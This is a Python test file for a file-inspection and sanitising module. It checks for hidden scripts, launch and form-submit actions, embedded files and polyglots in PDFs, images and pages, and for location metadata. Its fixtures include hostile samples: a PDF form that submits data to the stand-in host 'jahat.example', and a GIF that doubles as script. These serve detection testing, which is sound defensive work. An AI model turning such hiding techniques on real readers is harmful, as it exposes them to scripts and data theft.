"""What a file holds beside what it shows is said, of a plain one nothing; what is drawn holds nothing beside it."""

import io

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from saksama_node.confined import looked
from saksama_node.confined.kinds import OTHER, PAGE, PAGES, PDF, Warn
from saksama_node.confined.landlock import version
from saksama_node.confined.looked import File, copy_of, looked_at, looked_over, page_of
from saksama_node.confined.warning import warnings_of as found_in
from tests.node.confined.hidden import (
    FILM,
    HEIC,
    JAVASCRIPT,
    LAUNCH,
    SCRIPT,
    acts,
    archive,
    carrying,
    paper,
    photo,
    program,
)

JPEG, PNG, WEBP = "image/jpeg", "image/png", "image/webp"


@pytest.fixture(autouse=True)
def _patient(monkeypatch: pytest.MonkeyPatch) -> None:
    """A machine under load may take longer than a person waits."""
    for name in ("FILE_SECONDS", "WALL_SECONDS"):
        monkeypatch.setattr(looked, name, 120.0)


def file(data: bytes, kind: str) -> File:
    return File(data[:8].hex() + str(hash(data)), len(data), lambda: kind, lambda: data)


HIDING = {
    "a paper with a script": (acts(JAVASCRIPT), PDF, [Warn.SCRIPT]),
    "a script behind another act": (
        acts(Dictionary(S=Name.GoTo, D=Array([0]), Next=JAVASCRIPT)),
        PDF,
        [Warn.SCRIPT],
    ),
    "a paper that starts a program": (acts(LAUNCH), PDF, [Warn.STARTS]),
    "a paper that sends what is filled in": (
        acts(Dictionary(S=Name.SubmitForm, F=String("http://jahat.example"))),
        PDF,
        [Warn.STARTS],
    ),
    "a paper with a file in it": (carrying(), PDF, [Warn.CARRIES]),
    "a locked paper": (paper(encryption=pikepdf.Encryption(user="a", owner="b")), PDF, [Warn.LOCKED]),
    "a broken paper with a script": (b"%PDF-1.7\n1 0 obj <</S /JavaScript", PDF, [Warn.SCRIPT, Warn.BROKEN]),
    "a paper and a page": (b"%PDF-1.7\n" + SCRIPT + paper(), PDF, [Warn.ALSO_PAGE]),
    "a paper and an archive": (paper() + archive(), PDF, [Warn.ALSO_ARCHIVE]),
    "a photo and an archive": (photo() + archive(), JPEG, [Warn.ALSO_ARCHIVE]),
    "a photo and a page": (photo() + SCRIPT, JPEG, [Warn.ALSO_PAGE]),
    "a photo and a paper": (photo() + paper(), JPEG, [Warn.ALSO_PDF]),
    "a photo and a program": (photo() + program(), JPEG, [Warn.ALSO_PROGRAM]),
    "a text and a page": (b"Halo\n" + SCRIPT, "text/plain", [Warn.ALSO_PAGE]),
    "a gif that is a script": (b"GIF89a/*" + b" " * 40 + b"*/=1;alert(1)", "image/gif", [Warn.ALSO_PAGE]),
    "a photo with a place": (photo(place=True), JPEG, [Warn.PLACE]),
    "a png with a place and a maker": (photo("PNG", place=True, maker=True), PNG, [Warn.PLACE, Warn.MAKER]),
    "a webp with a place": (photo("WEBP", place=True), WEBP, [Warn.PLACE]),
    "a photo with a maker": (photo(maker=True), JPEG, [Warn.MAKER]),
    "a photo that no program here opens": (HEIC, "image/heic", [Warn.PLACE]),
    "a film with a place": (FILM, "video/mp4", [Warn.PLACE]),
    "an office file that runs something": (archive().replace(b"alat.exe", b"vbaProject.bin"), OTHER, [Warn.SCRIPT]),
    "a page that runs something": (b"<!doctype html><p onclick = 'x()'>Halo</p>", PAGE, [Warn.SCRIPT]),
    "a page with a script": (b"<!doctype html>" + SCRIPT, PAGE, [Warn.SCRIPT]),
    "a broken photo": (photo()[:60], JPEG, [Warn.BROKEN]),
}
HIDING_NOTHING = {
    "a paper": (paper(), PDF),
    "a photo": (photo(), JPEG),
    "a picture": (photo("PNG"), PNG),
    "an office file": (archive(), OTHER),
    "a page": (b"<!doctype html><p>Harga naik.</p>", PAGE),
    "a text": (b"Rapat < 3 orang, > 2 saksi", "text/plain"),
    "the letters of a program by chance": (photo() + b"MZ" + bytes(80), JPEG),
}


@pytest.mark.parametrize("what", HIDING)
def test_what_a_file_hides_is_said(what: str) -> None:
    data, kind, expected = HIDING[what]
    assert found_in(data, kind) == expected


@pytest.mark.parametrize("what", HIDING_NOTHING)
def test_of_a_file_that_hides_nothing_nothing_is_said(what: str) -> None:
    assert found_in(*HIDING_NOTHING[what]) == []


@pytest.mark.parametrize("what", ["a paper with a script", "a photo with a place", "a locked paper", "a photo"])
def test_behind_the_bars_the_same_is_said(what: str) -> None:
    data, kind, expected = HIDING.get(what, (photo(), JPEG, []))
    assert looked_at(file(data, kind)).warnings == tuple(expected)


def test_a_paper_is_drawn_page_by_page_behind_landlock_or_not_at_all() -> None:
    given = file(acts(JAVASCRIPT), PDF)
    drawn = page_of(given, 2)
    if not version():
        assert (drawn, looked_at(given).pages) == (None, 0)
        return
    assert drawn is not None
    assert looked_at(given).pages == 2
    with Image.open(io.BytesIO(drawn)) as shown:
        assert shown.format == "PNG"
        darkest, lightest = shown.convert("L").getextrema()
        assert darkest != lightest, "something is on it"
    assert page_of(file(paper(), PDF), 3) is None
    assert page_of(file(paper(), PDF), PAGES + 1) is None


def test_a_copy_of_a_paper_is_pictures_of_its_pages_and_nothing_else() -> None:
    given = paper(lambda document: document.attachments.__setitem__("alat.exe", b"MZ"))
    made = copy_of(file(given, PDF))
    if not version():
        assert made is None
        return
    assert made is not None
    assert found_in(made, PDF) == []
    with pikepdf.open(io.BytesIO(made)) as document:
        assert len(document.pages) == 2
        assert set(document.Root.keys()) == {"/Type", "/Pages"}


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_a_copy_of_a_photo_has_its_size_and_nothing_beside_its_points(kind: str) -> None:
    given = photo(kind, place=True, maker=True) + archive()
    made = copy_of(file(given, f"image/{kind.lower()}"))
    assert made is not None
    with Image.open(io.BytesIO(made)) as shown:
        assert shown.size == (1200, 900)
        assert not shown.getexif()
    assert found_in(made, JPEG) == []
    assert b"Ani" not in made


class Gone(Exception):
    """A file that is not on the disk any more."""


def test_a_file_that_is_gone_takes_no_other_s_warnings() -> None:
    def missing() -> bytes:
        raise Gone

    kept, lost = file(photo(place=True), JPEG), File("hilang", 9, lambda: JPEG, missing)
    assert looked_over([lost, kept], Gone) == {kept.sha256: (Warn.PLACE,)}
    with pytest.raises(Gone):
        looked_over([kept, lost], ValueError)


def test_what_is_known_is_asked_for_nothing_not_even_its_type() -> None:
    data = photo("WEBP", maker=True)
    known = file(data, WEBP)
    assert looked_at(known).warnings == (Warn.MAKER,)

    def opened() -> str:
        raise Gone

    assert looked_over([File(known.sha256, known.size, opened, bytes)]) == {known.sha256: (Warn.MAKER,)}


def test_a_picture_that_is_too_large_to_be_unpacked_has_no_page() -> None:
    out = io.BytesIO()
    Image.new("1", (20_100, 10)).save(out, "PNG")
    wide = file(out.getvalue(), PNG)
    assert (looked_at(wide).pages, page_of(wide, 1), copy_of(wide)) == (0, None, None)


def test_what_is_too_large_is_not_read_and_a_list_waits_for_so_long_and_no_longer(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    large = File("besar", 21 << 20, lambda: PDF, bytes)
    assert looked_at(large).warnings == (Warn.TOO_LARGE,)
    assert page_of(large, 1) is None
    assert copy_of(large) is None
    monkeypatch.setattr(looked, "LIST_SECONDS", 0.0)
    monkeypatch.setattr(looked, "FILE_SECONDS", 0.001)
    hurried = file(photo("WEBP"), WEBP)
    assert looked_at(hurried).warnings == (Warn.UNLOOKED,), "no time is not broken"
    monkeypatch.setattr(looked, "FILE_SECONDS", 120.0)
    assert looked_at(hurried).warnings == (), "and is not kept"
    known, new = file(photo(place=True), JPEG), file(photo("PNG", place=True), PNG)
    assert looked_at(known).warnings == (Warn.PLACE,)
    assert looked_over([known, new, large]) == {
        known.sha256: (Warn.PLACE,),
        new.sha256: (Warn.UNLOOKED,),
        large.sha256: (Warn.TOO_LARGE,),
    }
